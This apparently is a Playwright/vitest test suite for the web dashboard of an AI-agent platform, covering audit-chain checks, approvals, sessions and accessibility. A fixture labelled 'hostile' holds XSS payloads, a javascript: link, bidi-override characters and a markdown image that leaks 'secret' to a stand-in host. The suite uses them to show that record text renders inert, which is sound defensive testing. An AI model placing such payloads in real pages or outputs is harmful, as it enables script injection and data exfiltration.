import type { Page } from "playwright-core";
import { SessionId } from "reeve";
import { expect, test } from "vitest";
import { expectAccessible, keepPicture, siteOf, visit } from "./open-page.ts";
import { mailingTeam } from "./mailing-team.ts";
import { recordsSite, writeConversation } from "./records-site.ts";
import { sample } from "../../effort.ts";

const themes = ["light", "dark"] as const;

type Screen = readonly [name: string, path: string, ready: (page: Page) => Promise<unknown>];

const shows = (text: string | RegExp) => (page: Page) => page.getByText(text).first().waitFor();

const screens: readonly Screen[] = [
  ["audit", "/audit", shows(/^Intact up to link|✓ Intact up to link/)],
  ["audit-kind", "/audit?kind=approval", shows("requested send_email")],
  ["audit-link", "/audit/2", (page) => page.getByRole("complementary", { name: "Link 2" }).waitFor()],
  ["audit-none", "/audit?tree=none", shows("No link matches the filter")],
  ["agents", "/agents", (page) => page.getByRole("link", { name: "writer" }).waitFor()],
  ["agent", "/agents/writer", shows("Write one page. Send it to the team.")],
  ["agent-missing", "/agents/none", shows("Nothing here that your key can see")],
  ["sessions", "/sessions", (page) => page.getByRole("link", { name: /The report/ }).waitFor()],
  ["session", "/sessions/report-talk", shows("Who writes it?")],
  ["session-missing", "/sessions/none", shows("Nothing here that your key can see")],
  [
    "approvals-rule-of-two",
    "/approvals",
    (page) => page.getByRole("region", { name: "Untrusted" }).waitFor(),
  ],
  ["approvals-decided-list", "/approvals?state=decided", shows(/^approved by dana/)],
  ["approvals-no-match", "/approvals?tool=none", shows("No question matches the filter")],
];

test.each(themes)("each screen of records is accessible and within the policy, in %s", async (theme) => {
  const { site } = await recordsSite();
  await site.runtime.audit.verify();
  for (const [name, path, ready] of sample(screens, 0.25, ([screen]) => `${screen} ${theme}`)) {
    const { page, faults } = await visit(site, path, { theme });
    await ready(page);
    await expectAccessible(page);
    await keepPicture(page, `${name}-${theme}`);
    expect({ name, faults }).toEqual({ name, faults: [] });
  }
});

test.each(themes)("empty record screens show the next step, in %s", async (theme) => {
  const site = await siteOf(mailingTeam("").agents);
  for (const [path, text] of [
    ["/audit", "No decisions yet: the chain has no link."],
    ["/sessions", "No conversation yet"],
  ] as const) {
    const { page, faults } = await visit(site, path, { theme });
    await shows(text)(page);
    await expectAccessible(page);
    await keepPicture(page, `${path.slice(1)}-empty-${theme}`);
    expect(faults).toEqual([]);
  }
});

test("the audit is checked, filtered and read without a mouse, and a head that it never had is a fault", async () => {
  const { site } = await recordsSite();
  const { page, faults } = await visit(site, "/runs");
  await page.getByRole("heading", { name: "Runs" }).waitFor({ state: "attached" });
  await page.keyboard.press("g");
  await page.keyboard.press("u");
  await shows("Not checked yet.")(page);
  await page.keyboard.press("v");
  await shows(/Intact up to link/)(page);
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  await page.getByRole("complementary").waitFor();
  expect(page.url()).toMatch(/\/ui\/audit\/\d+$/);
  await page.keyboard.press("Backspace");
  await page.getByRole("complementary").waitFor({ state: "detached" });
  await page.getByRole("button", { name: "guardrail" }).press("Enter");
  await shows("No link matches the filter")(page);
  await page.getByRole("button", { name: "approval" }).press("Enter");
  const kinds = await page.locator(".records tbody td:nth-child(3)").allInnerTexts();
  expect(new Set(kinds)).toEqual(new Set(["approval"]));
  await page.getByText("Compare with a saved head").press("Enter");
  await page.getByLabel("Head", { exact: true }).fill("999:abcdef");
  await page.keyboard.press("Enter");
  await shows(/Broken at link/)(page);
  await shows(/truncated: the first link that was removed from the end/)(page);
  await expectAccessible(page);
  await keepPicture(page, "audit-fault-light");
  expect(faults).toEqual([]);
});

test("an agent's page shows the labels and egress of its tools, its limits and its week", async () => {
  const { site } = await recordsSite();
  const { page } = await visit(site, "/agents/writer");
  const row = (name: string) => page.getByRole("row", { name: new RegExp(name) });
  await row("read_page").getByText("web, untrusted").waitFor();
  await row("read_figures").getByText("tool, private").waitFor();
  await row("send_email").getByText("high").waitFor();
  await page.getByText("$0.50, 12 model calls").waitFor();
  await page.locator(".kv").getByText("retry").waitFor();
  await expect.poll(() => page.locator(".figures dd").first().innerText()).toBe("3");
});

test("a session shows its main path, a side branch, and the entries its compaction replaced", async () => {
  const { site } = await recordsSite();
  const { page, faults } = await visit(site, "/sessions");
  await page.getByRole("link", { name: /The report/ }).waitFor();
  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  await shows("Compacted: 2 entries above, 9,120 tokens, became a summary")(page);
  expect(await page.getByText("replaced by a summary").count()).toBe(2);
  expect(await page.getByText("And on Friday?").isVisible()).toBe(false);
  await page.getByText(/^branch: 2 entries/).press("Enter");
  await page.getByText("And on Friday?").waitFor();
  expect(await page.locator(".entries > li").count()).toBe(6);
  await page.getByRole("button", { name: "Fork here" }).first().press("Enter");
  await shows("Forked: a new conversation with everything up to here")(page);
  await expect.poll(() => page.locator(".entries > li").count()).toBe(1);
  expect(faults).toEqual([]);
});

const hostile = [
  '<img src=x onerror="alert(1)">',
  "<script>alert(2)</script>",
  "![pixel](https://px.example/?d=secret)",
  "[open](javascript:alert(3))",
  "left\u202Eright \u200Bhidden",
  "__proto__",
].join("\n");

test("text of records is inert on every screen", async () => {
  const { site, lead } = await recordsSite(hostile);
  await site.runtime.store.sessions.remove(
    { tenantId: null },
    { id: SessionId.of("report-talk"), userId: null },
  );
  await writeConversation(site, hostile);
  await site.runtime.start(lead, "x", { id: "named", name: hostile.replaceAll("\n", " ").slice(0, 120) });
  for (const path of [
    "/sessions",
    "/sessions/report-talk",
    "/approvals",
    "/audit",
    `/audit?tree=${encodeURIComponent(hostile)}`,
    `/agents/${encodeURIComponent(hostile)}`,
    `/approvals?tool=${encodeURIComponent(hostile)}&agent=${encodeURIComponent(hostile)}`,
  ]) {
    const { page, faults } = await visit(site, path);
    await page.locator("main h1, main table").first().waitFor({ state: "attached" });
    expect(await page.locator("main img, main script, main iframe").count()).toBe(0);
    expect({ path, faults }).toEqual({ path, faults: [] });
  }
});

test("text of a conversation is shown by its characters", async () => {
  const site = await siteOf(mailingTeam("").agents);
  await writeConversation(site, hostile);
  const { page } = await visit(site, "/sessions/report-talk");
  await page.getByText("<script>alert(2)</script>").first().waitFor();
  expect(await page.getByText("U+202E").count()).toBeGreaterThan(1);
});

test.each(["/audit", "/agents", "/agents/writer", "/sessions", "/sessions/report-talk", "/approvals"])(
  "%s fits a screen of 390 px",
  async (path) => {
    const { site } = await recordsSite();
    const { page, faults } = await visit(site, path, { width: 390 });
    await page.locator("main h1, main h2").first().waitFor({ state: "attached" });
    await page.locator("main table, main .entry, main .decision, main .figures").first().waitFor();
    await expectAccessible(page);
    await keepPicture(page, `phone-${path.slice(1).replaceAll("/", "-")}`);
    expect(await page.evaluate<number>("document.documentElement.scrollWidth")).toBeLessThanOrEqual(390);
    expect(faults).toEqual([]);
  },
);

test("a run is headed by its name and id, and the question above it has whole sentences", async () => {
  const { site } = await recordsSite();
  const { page, faults } = await visit(site, "/runs/third");
  const head = page.getByRole("region", { name: "The tree" });
  await head.getByRole("heading", { name: "Report third", exact: true }).waitFor();
  expect(await head.getByText("third", { exact: true }).count()).toBe(1);
  const banner = page.getByRole("region", { name: "Needs you" });
  expect(await banner.locator("b").innerText()).toMatch(/approval of send_email\.$/);
  expect(await banner.innerText()).toMatch(/\S\. Without a decision it is denied on/);
  expect(await banner.innerText()).not.toMatch(/\. (the|this|a|an) /);
  expect(faults).toEqual([]);
});
